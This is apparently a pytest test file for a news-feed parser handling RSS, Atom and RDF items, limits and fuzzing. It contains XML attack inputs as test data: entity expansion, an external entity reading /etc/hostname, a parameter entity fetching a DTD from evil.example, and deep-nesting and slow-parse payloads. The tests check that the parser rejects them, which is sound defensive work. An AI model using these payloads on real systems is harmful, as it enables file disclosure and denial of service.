"""RSS and Atom."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipelines.formats import Limits, parse
from schemas import DeadLetter, Story

LEAD = "HALDEN, Norway (AP) — The council of Halden voted on Tuesday to cut the timetable of the ferry."
RSS = f"""<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="https://halden.example/feed.xsl"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel>
<title>Halden Courier</title><link>https://halden.example/</link><description>News</description><language>en-gb</language>
<item>
<guid isPermaLink="false">4711</guid><link>https://halden.example/ferry</link>
<title>Ferry &amp;amp; bus timetable cut</title>
<description>The ferry is cut.</description>
<content:encoded><![CDATA[<p>{LEAD}</p>
<figure><figcaption>The pier</figcaption></figure><p>Nobody asked us, said the baker.</p>]]></content:encoded>
<dc:creator>Jane Roe</dc:creator><dc:creator>Ivan Petrov</dc:creator>
<pubDate>Tue, 04 Mar 2025 10:12:00 +0100</pubDate>
</item>
<item>
<link>https://halden.example/bus</link><title>Bus strike</title>
<description>The drivers struck on Monday, and no bus left the depot.</description>
<author>desk@halden.example (Ole Berg)</author>
<pubDate>Mon, 3 Mar 2025 07:00</pubDate><dc:language>nb</dc:language>
</item>
<item><guid>urn:example:empty</guid><title>Only a headline</title></item>
</channel></rss>
""".encode()
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr">
<id>urn:example:feed</id><title>Le Courrier</title><updated>2025-03-04T12:00:00Z</updated>
<entry>
<id>urn:example:atom:1</id><title type="html">Le bac &lt;em&gt;supprimé&lt;/em&gt;</title>
<link rel="alternate" href="https://courrier.example/bac"/><link rel="via" href="https://agence.example/1"/>
<published>2025-03-04T09:12:00+01:00</published><updated>2025-03-04T10:30:00+01:00</updated>
<author><name>Inès Roux</name></author>
<summary>Un résumé.</summary>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Le conseil a voté mardi.</p><p>Le bac part deux fois.</p></div></content>
</entry>
<entry xml:lang="en">
<id>urn:example:atom:2</id><title>Market note</title><updated>2025-03-04T10:30:00Z</updated>
<source><title>Halden Courier</title></source>
<content type="text">First paragraph.

Second paragraph.</content>
</entry>
</feed>""".encode()
RDF = b"""<?xml version="1.0" encoding="iso-8859-1"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://sun.example/rss"><title>The Sun Post</title><link>https://sun.example/</link></channel>
<item rdf:about="https://sun.example/1"><title>Caf\xe9 reopens</title><link>https://sun.example/1?from=rss</link>
<description>The caf\xe9 at the pier reopened on Sunday.</description><dc:date>2025-03-02T18:00:00+09:00</dc:date></item>
</rdf:RDF>"""


def items(data: bytes, limits: Limits = Limits(), source: str | None = None) -> list[Story | DeadLetter]:
    return list(parse(data, "in/feed.xml", limits=limits, source=source))


def stories(data: bytes) -> list[Story]:
    return [item for item in items(data) if isinstance(item, Story)]


def error_of(data: bytes, limits: Limits = Limits()) -> str:
    (item,) = items(data, limits)
    assert isinstance(item, DeadLetter), item
    return item.error


def test_rss_full_content_comes_before_the_description() -> None:
    story = stories(RSS)[0]
    assert (story.uri, story.headline, story.format) == ("4711", "Ferry & bus timetable cut", "rss/2.0")
    assert story.text == f"{LEAD}\n\nNobody asked us, said the baker."
    assert (story.source, story.language, story.byline, story.dateline) == (
        "Halden Courier",
        "en-gb",
        "Jane Roe, Ivan Petrov",
        "HALDEN, Norway (AP)",
    )
    assert (story.published, story.time_basis, story.version) == ("2025-03-04T09:12:00Z", "item", None)


def test_rss_description_and_link_stand_in() -> None:
    story = stories(RSS)[1]
    assert (story.uri, story.byline, story.language) == ("https://halden.example/bus", "Ole Berg", "nb")
    assert story.text == "The drivers struck on Monday, and no bus left the depot."
    assert (story.published, story.time_basis) == ("2025-03-03T07:00:00Z", "utc")


def test_an_entry_without_text_is_a_dead_letter_with_its_own_bytes() -> None:
    dead = items(RSS)[2]
    assert isinstance(dead, DeadLetter)
    assert (dead.uri, dead.error, dead.format) == ("in/feed.xml#3", "The entry has no text, only a headline.", "rss/2.0")
    assert dead.size == len(b"<item><guid>urn:example:empty</guid><title>Only a headline</title>")


def test_atom() -> None:
    one, two = stories(ATOM)
    assert (one.uri, one.headline, one.language, one.byline) == ("urn:example:atom:1", "Le bac supprimé", "fr", "Inès Roux")
    assert one.text == "Le conseil a voté mardi.\n\nLe bac part deux fois."
    assert one.published == one.version == one.versioncreated == "2025-03-04T09:30:00Z"
    assert [(link.relation, link.target) for link in one.links] == [("derivedFrom", "https://agence.example/1")]
    assert (two.text, two.source, two.language) == ("First paragraph.\n\nSecond paragraph.", "Halden Courier", "en")


def test_rdf_in_latin_1() -> None:
    (story,) = stories(RDF)
    assert (story.uri, story.headline, story.format) == ("https://sun.example/1", "Café reopens", "rss/1.0")
    assert (story.published, story.version, story.source) == ("2025-03-02T09:00:00Z", None, "The Sun Post")


def test_ids_that_are_no_addresses_are_scoped_by_the_feed() -> None:
    other = RSS.replace(b"https://halden.example/</link>", b"https://moss.example/</link>", 1)
    assert stories(RSS)[0].story_id != stories(other)[0].story_id
    assert stories(RSS)[1].story_id == stories(other)[1].story_id


def test_a_new_version_of_an_entry_keeps_its_story_id() -> None:
    later = ATOM.replace(b"T10:30:00+01:00", b"T11:30:00+01:00").replace(b"deux fois", b"trois fois")
    one, two = stories(ATOM)[0], stories(later)[0]
    assert one.story_id == two.story_id
    assert one.uid != two.uid


def test_blank_lines_part_the_paragraphs_of_markup_without_any() -> None:
    body = "<![CDATA[<strong>First</strong> paragraph.\n\nSecond one.\n<h2>Then</h2>\nThird.]]>"
    data = f"<rss version='2.0'><channel><item><title>x</title><description>{body}</description></item></channel></rss>".encode()
    assert stories(data)[0].text == "First paragraph.\n\nSecond one.\n\nThen\n\nThird."


def test_entities_of_html_and_control_characters_do_not_spoil_a_feed() -> None:
    data = RSS.replace(b"The ferry is cut.", b"The&nbsp;ferry \x14 is cut.").replace(b"drivers struck", b"dr\x0bivers&eacute; struck")
    one, two = stories(data)
    assert one.text.startswith("HALDEN")
    assert two.text.startswith("The driversé struck")


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
        b'<!DOCTYPE rss [<!ENTITY % d SYSTEM "https://evil.example/d.dtd"> %d;]>',
        b'<!-- <rss> --><!DOCTYPE rss [<!ENTITY x "y">]>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_feed_that_declares_entities_is_refused(doctype: bytes, encoding: str) -> None:
    data = RSS.replace(b"<rss ", doctype + b"<rss ", 1).replace(b"The ferry is cut.", b"&x;&b;")
    text = data.decode().replace("UTF-8", encoding)
    assert error_of(text.encode(encoding)) == "The feed declares entities or a document type of its own, which are not read."


def test_a_document_type_without_declarations_is_passed_over() -> None:
    doctype = b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    assert len(stories(RSS.replace(b"<rss ", doctype + b"<rss ", 1))) == 2


def test_what_a_feed_tells_about_doctypes_is_text() -> None:
    data = RSS.replace(b"Nobody asked us", b"Write &lt;!DOCTYPE html&gt; and <!ENTITY x> first")
    assert stories(data)[0].text.endswith("said the baker.")


def test_a_feed_that_is_cut_gives_the_entries_before_the_cut() -> None:
    found = items(RSS[: RSS.index(b"no bus left")])
    assert isinstance(found[0], Story)
    assert isinstance(found[1], DeadLetter)
    assert found[1].error == "The feed ends in the middle of this entry."


def test_a_name_of_a_file_is_no_feed(tmp_path: object) -> None:
    """feedparser opens what it is given as a path."""
    assert error_of(b"<rss>/etc/hostname</rss>") == "The feed has no entries."


def test_limits() -> None:
    assert error_of(RSS, Limits(max_item_bytes=500)) == "The feed is larger than 500 bytes."
    deep = b"<rss version='2.0'><channel><item><title>x</title><description>" + b"<a>" * 100_000 + b"</description></item></channel></rss>"
    assert error_of(deep) == "The feed is nested more than 200 elements deep."


@settings(max_examples=100, deadline=None)
@given(data=st.data())
def test_no_mutation_of_a_feed_raises(data: st.DataObject) -> None:
    base = bytearray(data.draw(st.sampled_from([RSS, ATOM, RDF])))
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(base) - 1))
        end = data.draw(st.integers(at, min(len(base), at + 200)))
        base[at:end] = data.draw(
            st.binary(max_size=20) | st.sampled_from([b"<item>", b"</entry>", b"<![CDATA[", b"&#0;", b"<!ENTITY", b"-->"])
        )
        if not base:
            return
    found = items(bytes(base))
    assert found
    assert all(isinstance(item, (Story, DeadLetter)) for item in found)


def test_an_author_without_end_takes_no_time() -> None:
    """Found by `bench.fuzz`: 40 kB in an author's element took ten seconds."""
    feed = b'<rss version="2.0"><channel><title>T</title><item><guid>a</guid><description>Some text.</description><author>'
    began = time.process_time()
    found = list(parse(feed + b"a" * 100_000 + b"</author></item></channel></rss>", "in/feed"))
    assert time.process_time() - began < 3
    assert [item.uri for item in found] == ["a"]
